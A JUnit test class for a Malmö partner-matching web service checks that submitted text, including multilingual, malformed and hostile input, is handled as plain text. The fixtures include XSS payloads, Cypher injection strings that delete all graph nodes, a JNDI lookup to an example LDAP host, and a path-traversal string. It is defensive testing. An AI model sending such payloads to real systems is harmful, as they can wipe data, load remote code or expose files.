package se.malmo.meet;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.net.http.HttpResponse;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What is odd but no fault: read as plain text. */
@Order(TestServer.SHARED)
class AnyTextTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static TestServer server;

  @BeforeAll
  static void start() {
    server = TestServer.shared();
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  @ParameterizedTest
  @ValueSource(strings = {"bröd", "7", "0123456789 42 3,14 1e999", ".", "?!", "-", "\u00a0x", "a\u0301", "ﬁ", "İstanbul'da", "ß",
      "Etsimme kumppania, joka auttaa meitä kierrätyksessä ja koulutuksessa.", "نبحث عن شريك لتدريب الوافدين الجدد في موقع البناء", "我们寻找合作伙伴", "🍞🚲👩‍👩‍👧‍👦🇸🇪",
      "<script>alert(1)</script><b>bröd", "<!-- --> &amp; ]]>", "MATCH (n) DETACH DELETE n", "'}) DETACH DELETE n //", "$text {0} ${jndi:ldap://x.example/a} %s %n #{1}",
      "+bröd -smör \"", "bröd AND (smör OR", "title:[* TO *]~^ \\", "/b", "bröd*?~", "../../etc/passwd", "\u0001\u0007\u001b[31m", "\u202egnitirw \u200b\ufeff\uffff",
      "{\"text\": \"x\"}", "null", "NaN", "true"})
  void any_text_is_read_as_text(String text) throws JsonProcessingException {
    long before = nodes();
    String json = JSON.writeValueAsString(Map.of("text", text, "title", text));
    HttpResponse<String> answer = server.post("/api/v1/suggestions", json);
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
    JsonNode suggestions = JSON.readTree(answer.body());
    for (String list : new String[] {"keywords", "partners", "forvaltningar", "similar"}) assertThat(suggestions.get(list).isArray()).as(list).isTrue();
    assertThat(nodes()).isEqualTo(before);
  }

  @Test
  void half_a_character_is_read_past() throws JsonProcessingException {
    for (String half : new String[] {"\\ud83d", "\\udf5e", "\\udf5e\\ud83d", "br\\ud800öd"}) {
      assertThat(server.post("/api/v1/suggestions", "{\"text\": \"" + half + "\"}").statusCode()).as(half).isEqualTo(200);
      HttpResponse<String> receipt = server.post("/api/v1/initiatives", submission("Bröd " + half, "Vi söker " + half));
      assertThat(receipt.statusCode()).as(receipt.body()).isEqualTo(201);
      assertThat(status(receipt).statusCode()).isEqualTo(200);
    }
  }

  @Test
  void a_text_without_any_word_of_ours_finds_nothing_and_says_so() throws JsonProcessingException {
    JsonNode answer = JSON.readTree(server.post("/api/v1/suggestions", "{\"text\": \"xqzzt wvvrk plomfh\"}").body());
    assertThat(answer.get("confident").asBoolean()).isFalse();
    assertThat(answer.get("partners")).isEmpty();
    assertThat(answer.get("similar")).isEmpty();
  }

  @Test
  void markup_and_cypher_in_a_submission_are_shown_as_they_were_written() throws JsonProcessingException {
    long others = nodes("n:Organisation OR n:Forvaltning OR n:Competence");
    HttpResponse<String> receipt = server.post("/api/v1/initiatives", submission("<script>alert('hej')</script>", "MATCH (n) DETACH DELETE n <img src=x onerror=alert(1)>"));
    assertThat(receipt.statusCode()).isEqualTo(201);
    String page = status(receipt).body();
    assertThat(page).contains("&lt;script&gt;alert('hej')&lt;/script&gt;", "MATCH (n) DETACH DELETE n &lt;img src=x onerror=alert(1)&gt;").doesNotContain("<script>alert", "<img");
    assertThat(nodes("n:Organisation OR n:Forvaltning OR n:Competence")).isEqualTo(others);
  }

  private static HttpResponse<String> status(HttpResponse<String> receipt) throws JsonProcessingException {
    String address = JSON.readTree(receipt.body()).get("statusUrl").asText();
    return server.get(address.substring(server.url("").length()));
  }

  private static String submission(String title, String text) {
    return "{\"title\": \"" + title + "\", \"text\": \"" + text + "\", \"sender\": {\"name\": \"<b>Åsa</b>\", \"sector\": \"business\", \"organisation\": \"Bröd & Co\","
        + " \"email\": \"asa@ugnen.example\"}}";
  }

  private static long nodes() {
    return nodes("true");
  }

  private static long nodes(String condition) {
    return server.graph().read("MATCH (n) WHERE " + condition + " RETURN count(n) AS n", Map.of()).getFirst().get("n").asLong();
  }
}
